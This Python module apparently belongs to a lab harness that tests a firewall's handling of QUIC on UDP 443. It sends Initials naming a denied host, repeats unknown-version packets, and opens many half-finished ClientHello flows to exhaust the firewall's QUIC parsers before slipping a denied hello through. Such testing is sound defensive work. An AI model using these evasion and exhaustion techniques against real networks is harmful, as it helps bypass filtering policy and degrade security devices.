"""QUIC attacks on UDP 443 of the shared address: Initials whose ClientHello
names the denied host, an unknown version nobody can read, and exhaustion
of the firewall's QUIC parsers. Nothing listens on UDP 443 in the lab, so a
datagram that gets through is answered by the server's kernel with an ICMP
port unreachable; a firewall's denial is an ICMP unreachable too, so the
far-side capture decides which one it was."""

import errno
import os
import socket
import time

import quic_craft
import tls_craft


def _udp(ctx, sport):
    family = socket.AF_INET6 if ctx.v6 else socket.AF_INET
    s = socket.socket(family, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((ctx.src, sport))
    s.connect((ctx.shared, 443))
    return s


def _wait_icmp(sock, seconds, sent_at=None):
    """(milliseconds from sent_at until an ICMP error reached the socket,
    errno name) or (None, None). Port unreachable shows as ECONNREFUSED,
    host/admin unreachable as EHOSTUNREACH."""
    sent_at = time.monotonic() if sent_at is None else sent_at
    sock.settimeout(seconds)
    try:
        sock.recv(2048)
        return None, "answered"  # nothing in the lab speaks QUIC
    except socket.timeout:
        return None, None
    except OSError as e:
        return int((time.monotonic() - sent_at) * 1000), errno.errorcode.get(e.errno, str(e))


def _initial_with_hello(sni, crypto_part=None):
    dcid, scid = quic_craft.new_cids()
    hello = tls_craft.build_client_hello(sni, alpn=("h3",), quic_scid=scid, record=False)
    data = hello if crypto_part is None else hello[:crypto_part]
    return quic_craft.protect_initial(dcid, scid, quic_craft.crypto_frame(0, data)), len(hello)


def _needs_crypto(report):
    report["result"] = {"error": "python3-cryptography is missing: no QUIC packet protection"}
    return report


def quic_denied_sni(ctx):
    """Baseline: one Initial whose ClientHello names the denied host."""
    sport = ctx.kport(0)
    report = ctx.report("quic-denied-sni", [ctx.flow("udp", sport, ctx.shared, 443)])
    if not quic_craft.HAVE_CRYPTO:
        return _needs_crypto(report)
    packet, hello = _initial_with_hello(ctx.denied)
    with _udp(ctx, sport) as s:
        t0 = time.monotonic()
        s.send(packet)
        icmp, why = _wait_icmp(s, 1.5, t0)
    report["sent"] = {"datagram_bytes": len(packet), "client_hello_bytes": hello}
    report["result"] = {"icmp_unreachable_ms": icmp, "icmp_error": why, "timeout": icmp is None}
    return report


def quic_unknown_version(ctx, version=0x1A2A3A4A, repeats=20):
    """A long-header packet of an unknown (greased) version; it cannot be
    read, so it must be refused at once. Sent again `repeats` times, as a
    client retrying would."""
    sport = ctx.kport(0)
    report = ctx.report("quic-unknown-version", [ctx.flow("udp", sport, ctx.shared, 443)])
    dcid, scid = quic_craft.new_cids()
    body = ("sni=%s;" % ctx.denied).encode() + os.urandom(64)
    packet = quic_craft.unknown_version_packet(version, dcid, scid, body)
    icmps = []
    with _udp(ctx, sport) as s:
        t0 = time.monotonic()
        s.send(packet)
        first, why = _wait_icmp(s, 1.0, t0)
        for _ in range(repeats):
            try:
                s.send(packet)
            except OSError as e:  # an ICMP error queued since the last recv
                icmps.append(errno.errorcode.get(e.errno, str(e)))
                continue
            got, later_why = _wait_icmp(s, 0.05)
            if got is not None:
                icmps.append(later_why)
    report["sent"] = {"version": "0x%08x" % version, "datagrams": 1 + repeats,
                      "datagram_bytes": len(packet)}
    report["result"] = {"icmp_unreachable_ms": first, "icmp_error": why,
                        "icmp_after_repeats": icmps, "timeout": first is None}
    return report


def quic_pool_exhaustion(ctx):
    """Many flows each send a first Initial holding only the first part of a
    split ClientHello (every QUIC parser waits for the rest), then one more
    flow sends a whole ClientHello naming the denied host."""
    sport = ctx.kport(0)
    report = ctx.report("quic-pool-exhaustion", [ctx.flow("udp", sport, ctx.shared, 443)])
    if not quic_craft.HAVE_CRYPTO:
        return _needs_crypto(report)
    holders = []
    for i in range(ctx.holders):
        try:
            s = _udp(ctx, ctx.kport(1 + i))
            s.send(_initial_with_hello(ctx.allowed, crypto_part=120)[0])
            holders.append(s)
        except OSError:
            pass
    packet, hello = _initial_with_hello(ctx.denied)
    with _udp(ctx, sport) as s:
        t0 = time.monotonic()
        s.send(packet)
        icmp, why = _wait_icmp(s, 1.5, t0)
    for s in holders:
        s.close()
    report["sent"] = {"holders": ctx.holders, "holders_sent": len(holders),
                      "client_hello_bytes": hello}
    report["holders"] = [ctx.flow("udp", ctx.kport(1), ctx.shared, 443,
                                  last=ctx.kport(ctx.holders))]
    report["result"] = {"icmp_unreachable_ms": icmp, "icmp_error": why, "timeout": icmp is None}
    return report
